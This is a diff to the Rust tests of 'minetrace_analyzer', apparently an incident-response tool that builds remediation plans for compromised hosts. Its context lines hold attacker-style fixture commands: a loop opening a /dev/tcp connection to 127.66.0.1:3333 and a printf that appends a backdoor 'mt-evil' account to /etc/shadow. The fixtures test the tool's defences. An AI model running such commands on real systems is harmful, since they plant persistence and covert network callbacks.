@@ -16,13 +16,14 @@ use std::time::{Duration, Instant};
 
 use base64::engine::general_purpose::STANDARD;
 use base64::Engine;
+use minetrace_analyzer::indicators::Indicators;
 use minetrace_analyzer::model::HostModel;
 use minetrace_analyzer::parse::authorized_keys;
 use minetrace_analyzer::remediate::plan::Action;
 use minetrace_analyzer::remediate::{build, plan_lines, script, Plan};
 use minetrace_schemas::bundle::{members, BundleWriter};
 use minetrace_schemas::findings::{
-    Finding, FindingsDocument, Severity, Subject, Verdict, FINDINGS_SCHEMA,
+    Finding, FindingSubject, FindingsDocument, Role, Severity, Subject, Verdict, FINDINGS_SCHEMA,
 };
 use minetrace_schemas::records::executable::{CopyStatus, ExecutableRecord};
 use minetrace_schemas::records::file::{FileKind, FileRecord, FileTime};
@@ -506,6 +507,7 @@ impl Facts {
     }
 }
 
+/// A finding about its subjects themselves: every one an artifact (accounts included).
 fn finding(rule: &str, severity: Severity, subjects: Vec<Subject>) -> Finding {
     Finding {
         rule: rule.into(),
@@ -513,7 +515,10 @@ fn finding(rule: &str, severity: Severity, subjects: Vec<Subject>) -> Finding {
         title: format!("test finding {rule}"),
         family: None,
         attack: Vec::new(),
-        subjects,
+        subjects: subjects
+            .into_iter()
+            .map(|s| FindingSubject::with_role(s, Role::Artifact))
+            .collect(),
         evidence: Vec::new(),
     }
 }
@@ -757,7 +762,7 @@ for i in $(seq 50); do (exec 3<>/dev/tcp/127.66.0.1/3333) 2>/dev/null && exit 0;
             ),
         ],
     );
-    let plan = build::build(&model, &doc);
+    let plan = build::build(&model, &Indicators::builtin(), &doc);
     assert!(
         plan.manual.is_empty(),
         "nothing should be left by hand: {:?}",
@@ -972,7 +977,7 @@ fn attacker_symlinks_are_removed_swapped_ones_skipped_and_undone() {
             vec![subject(&kept), subject(&swapped)],
         )],
     );
-    let plan = build::build(&model, &doc);
+    let plan = build::build(&model, &Indicators::builtin(), &doc);
     assert_confined(&plan, &sb);
     let links = plan
         .items
@@ -1064,7 +1069,7 @@ fn stale_identities_are_skipped() {
             ),
         ],
     );
-    let plan = build::build(&model, &doc);
+    let plan = build::build(&model, &Indicators::builtin(), &doc);
     assert_confined(&plan, &sb);
     let script_path = write_script(&sb, &plan);
 
@@ -1244,7 +1249,7 @@ printf 'mt-evil:$6$salt$hash:19000:0:99999:7:::\n' >>/etc/shadow"#,
             ),
         ],
     );
-    let plan = build::build(&model, &doc);
+    let plan = build::build(&model, &Indicators::builtin(), &doc);
     assert!(plan.manual.is_empty(), "{:?}", plan.manual);
     assert_eq!(plan.items.len(), 4, "{:?}", plan_lines(&plan));
     assert_confined(&plan, &sb);
